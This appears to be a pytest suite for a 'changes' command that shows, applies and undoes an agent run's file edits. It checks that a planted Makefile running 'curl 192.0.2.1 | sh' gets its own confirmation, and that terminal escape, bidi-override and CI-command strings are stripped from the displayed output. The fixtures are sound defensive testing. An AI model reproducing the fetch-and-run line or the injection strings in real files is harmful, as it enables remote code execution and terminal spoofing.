"""The verb `changes`: shown harmlessly, applied by file and by hunk at a real terminal, undone."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.workspace.support import Worked, fill, listing, put, work
from tests.workspace.terminal import at_terminal, mindx

RUN = "20260101T000000000-abcdef"
LINES = [f"line {number}\n" for number in range(40)]


def text(**changed: str) -> str:
    lines = list(LINES)
    for key, value in changed.items():
        lines[int(key[1:])] = value + "\n"
    return "".join(lines)


def plan(tree: Any) -> None:
    put(tree, "text", text(n3="plan three", n6="plan six", n30="plan thirty"), 0o644)
    put(tree, "new.txt", "new\n")
    put(tree, "Makefile", "all:\n\tcurl 192.0.2.1 | sh\n")
    tree.remove("/workspace/gone")


@pytest.fixture
def state(tmp_path: Path) -> Path:
    (tmp_path / "state" / "runs").mkdir(parents=True)
    return tmp_path / "state"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    fill(tmp_path / "w", {"text": text(), "gone": "x\n"})
    return tmp_path / "w"


@pytest.fixture
def worked(state: Path, folder: Path) -> Worked:
    return work(folder, state / "runs" / RUN, plan)


def test_show(worked: Worked, state: Path) -> None:
    shown = mindx(state, "changes", "show", "last")
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.splitlines() == [
        "A Makefile  2 ++",
        "    runs on your machine: task file; applied only with a yes of its own",
        "D gone      1 -",
        "A new.txt   1 +",
        "M text      6 +++---",
        "4 changes, 6 lines added, 4 lines removed",
    ]
    assert shown.stderr == ""


def test_show_patch_of_chosen_paths(worked: Worked, state: Path) -> None:
    shown = mindx(state, "changes", "show", RUN[:9], "new.txt", "--patch")
    assert (
        shown.stdout
        == "diff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+new\n"
    )
    assert mindx(state, "changes", "show", RUN, "nothing").returncode == 2


def test_show_json(worked: Worked, state: Path, folder: Path) -> None:
    document = json.loads(mindx(state, "changes", "show", "last", "--json").stdout)
    assert (document["schema_version"], document["run_id"], document["folder"]) == (1, RUN, str(folder))
    makefile, gone, _, modified = document["changes"]
    assert makefile["runs_on_your_machine"] == ["task file"]
    assert (gone["path"], gone["kind"]) == ("gone", "deleted")
    assert (modified["mode"], modified["lines_added"], modified["lines_removed"]) == ("0644", 3, 3)


HOSTILE = "\x1b]0;title\x07\x1b[2J\u202e\u2066\x9b31m\r\x08\x00"


def plan_hostile(tree: Any) -> None:
    put(tree, "text", f"+{HOSTILE.replace(chr(0), '')}\n::set-output name=x::y\n")
    put(tree, "name\x1b]52;c;eA==\x07\u202etxt.exe", "x\n")
    put(tree, "two\nlines", "##vso[task.complete]\n")
    put(tree, "binary", HOSTILE)
    tree.link("/workspace/link", "/etc/\x1b[31mred\u202e")


@pytest.mark.parametrize("form", ["--stat", "--patch", "--json"])
def test_nothing_that_a_terminal_obeys_is_shown(state: Path, form: str) -> None:
    work(None, state / "runs" / RUN, plan_hostile)
    shown = mindx(state, "changes", "show", "last", form)
    assert shown.returncode == 0
    assert not [char for char in shown.stdout + shown.stderr if char != "\n" and not char.isprintable()]
    assert not [line for line in shown.stdout.splitlines() if line.startswith(("::", "##"))]


def test_no_line_is_a_command_to_a_ci_service(state: Path, tmp_path: Path) -> None:
    commands = ["::error::x", "  ::set-output name=x::y", "##[section]x", "##vso[task.complete]", "##teamcity[x]"]
    fill(tmp_path / "w", {"text": "\n".join([*commands, "old", *commands, ""])})
    work(
        tmp_path / "w",
        state / "runs" / RUN,
        lambda tree: put(tree, "text", "\n".join([*commands, "new", *commands, ""])),
    )
    lines = mindx(state, "changes", "show", "last", "--patch", CI="true").stdout.splitlines()
    assert len([line for line in lines if "teamcity" in line]) == 1  # three lines around the one that changed
    assert not [line for line in lines if line.strip().startswith(("::", "##"))]


def test_the_patch_for_tools_is_exact(worked: Worked, state: Path, folder: Path, tmp_path: Path) -> None:
    raw = mindx(state, "changes", "show", "last", "--raw").stdout
    fill(tmp_path / "clone", {"text": text(), "gone": "x\n"})
    subprocess.run(["git", "apply", "-"], cwd=tmp_path / "clone", input=raw, text=True, check=True)
    assert (tmp_path / "clone" / "text").read_text() == text(n3="plan three", n6="plan six", n30="plan thirty")


@pytest.mark.parametrize("options", [[], ["--json"], ["--accept", "Makefile"], ["--merge"], ["text"]])
def test_apply_without_a_terminal_wants_a_yes(worked: Worked, state: Path, folder: Path, options: list[str]) -> None:
    before = listing(folder)
    done = mindx(state, "changes", "apply", "last", *options)
    assert done.returncode == 2
    assert "give --yes" in done.stderr
    assert listing(folder) == before


def test_apply_without_a_terminal_leaves_out_what_runs_on_the_machine(
    worked: Worked, state: Path, folder: Path
) -> None:
    before = listing(folder)
    done = mindx(state, "changes", "apply", "last", "--yes")
    assert done.returncode == 1
    assert done.stdout.splitlines() == ["gone", "new.txt", "text"]
    assert "left out: Makefile: runs on your machine: task file" in done.stderr
    assert f"`mindx changes apply {RUN} Makefile --accept Makefile`" in done.stderr
    assert not (folder / "Makefile").exists()
    again = mindx(state, "changes", "apply", "last", "--yes", "--accept", "Makefile")
    assert (again.returncode, again.stdout) == (0, "Makefile\n")
    assert mindx(state, "changes", "undo", "last", "--yes").returncode == 0
    assert mindx(state, "changes", "undo", "last", "--yes").returncode == 0
    assert listing(folder) == before
    nothing = mindx(state, "changes", "undo", "last", "--yes")
    assert nothing.returncode == 2
    assert "nothing to undo" in nothing.stderr


def test_a_conflict_is_listed_and_nothing_is_written(worked: Worked, state: Path, folder: Path) -> None:
    (folder / "text").write_text(text(n20="mine"))
    before = listing(folder)
    done = mindx(state, "changes", "apply", "last", "--yes", "--json")
    assert done.returncode == 1
    document = json.loads(done.stdout)
    assert document["conflicts"] == [{"path": "text", "reason": "it differs from what was copied in"}]
    assert document["applied"] == []
    assert listing(folder) == before
    merged = mindx(state, "changes", "apply", "last", "--yes", "text", "--merge")
    assert (merged.returncode, merged.stdout) == (0, "text\n")
    assert (folder / "text").read_text() == text(n3="plan three", n6="plan six", n20="mine", n30="plan thirty")


def test_apply_to_another_folder(worked: Worked, state: Path, folder: Path, tmp_path: Path) -> None:
    fill(tmp_path / "clone", {"text": text(), "gone": "x\n"})
    before = listing(folder)
    done = mindx(state, "changes", "apply", "last", "--yes", "new.txt", "--to", str(tmp_path / "clone"))
    assert (done.returncode, done.stdout) == (0, "new.txt\n")
    assert listing(folder) == before


def test_bad_targets_are_one_message(worked: Worked, state: Path, folder: Path, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(folder)
    for target in ("/etc", "/", str(tmp_path / "none"), str(tmp_path / "link")):
        done = mindx(state, "changes", "apply", "last", "--yes", "--to", target)
        assert done.returncode == 2
        assert done.stderr.count("\n") == 1
        assert "Traceback" not in done.stderr


def test_the_folder_was_replaced(worked: Worked, state: Path, folder: Path, tmp_path: Path) -> None:
    folder.rename(tmp_path / "moved")
    fill(folder, {"text": text(), "gone": "x\n"})
    done = mindx(state, "changes", "apply", "last", "--yes")
    assert done.returncode == 2
    assert "is not the folder that was copied in" in done.stderr


def test_unknown_and_unfinished_runs(state: Path) -> None:
    assert mindx(state, "changes", "show", "last").returncode == 2
    (state / "runs" / RUN).mkdir()
    done = mindx(state, "changes", "show", "last")
    assert done.returncode == 2
    assert "has no changes to show" in done.stderr


def test_last_is_the_newest_run_that_came_to_a_comparison(worked: Worked, state: Path) -> None:
    newer = state / "runs" / "20260102T000000000-abcdef"
    newer.mkdir()
    faults = [{"kind": "invalid", "path": "$[0]", "message": "no such step"}]
    (newer / "result.json").write_text(json.dumps({"outcome": "invalid", "faults": faults}))
    shown = mindx(state, "changes", "show", "last")
    assert shown.returncode == 0
    assert "M text" in shown.stdout
    assert f"{newer.name} has no changes (it is invalid: no such step); this is {RUN}" in shown.stderr
    named = mindx(state, "changes", "show", newer.name)
    assert named.returncode == 2
    assert "as it came to no comparison: it is invalid: no such step" in named.stderr


def test_a_file_that_runs_later_is_shown_before_it_is_asked_about(worked: Worked, state: Path, folder: Path) -> None:
    terminal = at_terminal(state, "changes", "apply", "last", "Makefile")
    assert "curl 192.0.2.1 | sh" in terminal.answer("Apply it? [y/N]: ", "n")
    assert terminal.end() == 0
    assert not (folder / "Makefile").exists()


# --- at a terminal ---------------------------------------------------------------------------------------------------


def test_hunks_at_a_terminal(worked: Worked, state: Path, folder: Path) -> None:
    terminal = at_terminal(state, "changes", "apply", "last", "-p")
    assert "+\tcurl 192.0.2.1 | sh" in terminal.answer("task file). Take it [y,n,q,x,?]? ", "n")
    assert "deleted: gone" in terminal.answer("Take this: deleted [y,n,a,d,q,x,?]? ", "n")
    terminal.answer("Take this: added [y,n,a,d,q,x,?]? ", "y")
    shown = terminal.answer("Take this hunk [y,n,a,d,q,x,s,?]? ", "?")
    assert "plan three" in shown
    assert "plan six" in shown
    assert "split this" in terminal.answer("Take this hunk [y,n,a,d,q,x,s,?]? ", "s")
    assert (
        "plan six" not in terminal.answer("Take this hunk [y,n,a,d,q,x,?]? ", "n").split("@@")[-1].split("-line 6")[0]
    )
    terminal.answer("Take this hunk [y,n,a,d,q,x,?]? ", "y")
    terminal.answer("Take this hunk [y,n,a,d,q,x,?]? ", "n")
    assert terminal.end() == 0
    assert (folder / "text").read_text() == text(n6="plan six")
    assert (folder / "new.txt").read_text() == "new\n"
    assert (folder / "gone").exists()
    assert not (folder / "Makefile").exists()
    assert mindx(state, "changes", "undo", "last", "--yes").returncode == 0
    assert listing(folder).keys() == {"text", "gone"}


def test_the_rest_of_a_file_and_quitting(worked: Worked, state: Path, folder: Path) -> None:
    terminal = at_terminal(state, "changes", "apply", "last", "-p", "text", "new.txt", "Makefile")
    terminal.answer("Take it [y,n,q,x,?]? ", "y")
    terminal.answer("Take this: added", "d")
    terminal.answer("Take this hunk", "a")
    assert terminal.end() == 0
    assert (folder / "text").read_text() == text(n3="plan three", n6="plan six", n30="plan thirty")
    assert (folder / "Makefile").exists()
    assert not (folder / "new.txt").exists()
    terminal = at_terminal(state, "changes", "apply", "last", "-p", "gone", "new.txt")
    terminal.answer("Take this: deleted", "y")
    terminal.answer("Take this: added", "q")
    assert terminal.end() == 0
    assert not (folder / "gone").exists()
    assert not (folder / "new.txt").exists()


@pytest.mark.parametrize("way", ["x\n", "\x04", "\x03"])
def test_stopping_applies_nothing(worked: Worked, state: Path, folder: Path, way: str) -> None:
    before = listing(folder)
    terminal = at_terminal(state, "changes", "apply", "last", "-p", "gone", "new.txt")
    terminal.answer("Take this: deleted", "y")
    terminal.expect("Take this: added")
    terminal.type(way)
    assert terminal.end() == 130
    assert listing(folder) == before


def test_hunks_that_meet_the_users_edits_are_left_out(worked: Worked, state: Path, folder: Path) -> None:
    (folder / "text").write_text(text(n3="mine", n20="mine too"))
    terminal = at_terminal(state, "changes", "apply", "last", "-p", "text")
    assert "you edited the same lines" in terminal.answer("Take this hunk", "y")
    terminal.answer("Take this hunk", "y")
    assert terminal.end() == 0
    assert (folder / "text").read_text() == text(n3="mine", n6="plan six", n20="mine too", n30="plan thirty")


def test_folders_go_with_what_they_hold(state: Path, tmp_path: Path) -> None:
    fill(tmp_path / "w", {"old/a": "a", "half/a": "a", "half/b": "b"})

    def plan_folders(tree: Any) -> None:
        for path in ("old/a", "half/a", "half/b"):
            tree.remove(f"/workspace/{path}")
        for name in ("old", "half"):
            del tree.look("/workspace").children[name]
        put(tree, "new/deep/f", "f")
        put(tree, "unwanted/f", "f")
        tree.make_dir("/workspace/empty")

    work(tmp_path / "w", state / "runs" / RUN, plan_folders)
    terminal = at_terminal(state, "changes", "apply", "last", "-p")
    for name, answer in [("empty/", "y"), ("half/a", "y"), ("half/b", "n"), ("new/deep/f", "y"), ("old/a", "y"),
                         ("unwanted/f", "n")]:  # fmt: skip
        assert name in terminal.answer("[y,n,a,d,q,x,?]? ", answer)
    assert terminal.end() == 0
    assert listing(tmp_path / "w").keys() == {"half", "half/b", "new", "new/deep", "new/deep/f", "empty"}


def test_a_mode_is_a_question_of_its_own(state: Path, folder: Path) -> None:
    work(folder, state / "runs" / RUN, lambda tree: put(tree, "text", text(n3="plan"), 0o755))
    terminal = at_terminal(state, "changes", "apply", "last", "-p")
    terminal.answer("Take this hunk", "n")
    terminal.answer("Take the mode 0755", "y")
    assert terminal.end() == 0
    assert listing(folder)["text"] == (0o755, text().encode())


def test_apply_asks_first_at_a_terminal(worked: Worked, state: Path, folder: Path) -> None:
    before = listing(folder)
    terminal = at_terminal(state, "changes", "apply", "last")
    terminal.answer("runs on your machine: task file. Apply it? [y/N]", "n")
    terminal.answer("Apply 3 changes to", "n")
    assert terminal.end() == 0
    assert listing(folder) == before
    terminal = at_terminal(state, "changes", "apply", "last", "--yes")
    terminal.answer("Apply it? [y/N]", "y")
    assert terminal.end() == 0
    assert listing(folder).keys() == {"text", "new.txt", "Makefile"}


def test_undo_asks_first_at_a_terminal_and_elsewhere_wants_a_yes(worked: Worked, state: Path, folder: Path) -> None:
    """It writes to the user's files as apply does, so it asks as apply does; what it would take back is counted."""
    before = listing(folder)
    assert mindx(state, "changes", "apply", "last", "new.txt", "--yes").returncode == 0
    applied = listing(folder)
    for options in ([], ["--json"]):
        refused = mindx(state, "changes", "undo", "last", *options)
        assert refused.returncode == 2
        assert "nothing was taken back" in refused.stderr
        assert "give --yes" in refused.stderr
    terminal = at_terminal(state, "changes", "undo", "last")
    terminal.answer("Take back 1 change in", "n")
    assert terminal.end() == 0
    assert "nothing was taken back" in terminal.shown
    assert listing(folder) == applied
    terminal = at_terminal(state, "changes", "undo", "last")
    terminal.answer("Take back 1 change in", "y")
    assert terminal.end() == 0
    assert listing(folder) == before


def test_the_review_shows_nothing_that_the_terminal_obeys(state: Path, tmp_path: Path) -> None:
    work(None, state / "runs" / RUN, plan_hostile)
    (tmp_path / "to").mkdir()
    terminal = at_terminal(state, "changes", "apply", "last", "-p", "--to", str(tmp_path / "to"))
    for _ in range(4):
        terminal.answer("[y,n,a,d,q,x,?]? ", "y")
    assert terminal.end() == 0
    colours = terminal.shown
    for code in ("0", "1", "31", "32", "34", "35", "36", "97"):
        colours = colours.replace(f"\x1b[{code}m", "")
    assert not [char for char in colours if char not in "\r\n" and not char.isprintable()]
    assert len(listing(tmp_path / "to")) == 4
